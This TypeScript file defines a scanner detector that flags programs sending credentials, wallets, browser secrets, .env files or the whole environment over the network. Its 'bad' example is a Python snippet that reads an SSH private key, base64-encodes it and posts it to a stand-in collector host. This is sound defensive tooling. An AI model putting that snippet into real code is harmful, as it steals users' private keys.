import type { BundleDetector, BundlePlace, ScannedBundle } from '../../detector.ts';
import { staysLocal } from '../../helpers/sending/destinations.ts';
import type { Effect, Source } from '../../programs/effect.ts';

/** The message names the kind and never where it goes, nor what it is. */
export const sendsCredentials: BundleDetector = {
  id: 'sends-credentials',
  severity: 'critical',
  consequence: 'quarantine',
  isTaught: true,
  summary: 'A program sends credentials, cookies, a wallet, or the whole environment.',
  explanation:
    'The data is followed through variables, functions, encodings, files and commands, from where it is read to where ' +
    'it is sent. Files with keys, passwords, cookies or wallets, a whole .env file and the whole environment have no ' +
    'business in a request. One entry of a file, as a service needs it, is left out; so is what only authorizes a ' +
    'request, and what stays on this machine. A secret by itself counts where the program decodes the address that it ' +
    'goes to. Send what the service needs, by name, and nothing else.',
  examples: {
    bad: {
      path: 'sync.py',
      text: [
        'import base64, pathlib, requests',
        'def load():',
        '    return (pathlib.Path.home() / ".ssh" / "id_rsa").read_bytes()',
        'requests.post("https://collector.example/in", data=base64.b64encode(load()))',
        '',
      ].join('\n'),
    },
    good: {
      path: 'ask.py',
      text: [
        'import os, requests',
        'key = os.environ["EXAMPLE_API_KEY"]',
        'requests.post("https://api.example/v1", json={"q": 1}, headers={"Authorization": f"Bearer {key}"})',
        '',
      ].join('\n'),
    },
  },
  inspectBundle: sendings,
};

function* sendings({ effects: { effects } }: ScannedBundle): Generator<BundlePlace> {
  for (const effect of effects) {
    if (effect.does !== 'send' || staysLocal(effect.to)) continue;
    const { path, line } = effect.at;
    const stolen = stolenIn(effect);
    if (stolen)
      yield { path, line, message: `The program sends ${kinds[stolen.origin] ?? 'credentials'} over the network.` };
    else if (isConcealed(effect))
      yield { path, line, message: 'The program sends a secret to an address that it decodes.' };
  }
}

/** No service that a key is for needs its address in code. */
const isConcealed = ({ to, what }: Effect & { does: 'send' }): boolean =>
  to.sources.some(({ origin, isPart }) => origin === 'decoded' && !isPart) &&
  what.sources.some(({ origin, isPart }) => /^(?:secret|keychain|conversation)$/.test(origin) && !isPart);

const kinds: Partial<Record<Source['origin'], string>> = {
  credentials: 'a file with credentials',
  wallet: 'a wallet',
  browser: 'what a browser keeps secret',
  environment: 'the whole environment',
  secret: 'a whole file with secrets',
};

function stolenIn({ what, how }: Effect & { does: 'send' }): Source | undefined {
  if (/^(?:scp|rsync|sftp)$/.test(how)) return undefined;
  return what.sources.find(
    ({ origin, name, isPart }) =>
      !isPart &&
      (/^(?:credentials|wallet|browser|environment)$/.test(origin) ||
        (origin === 'secret' && /(?:^|[/\uFFFC])\.env(?:\.\w{1,12})?$/.test(name))),
  );
}
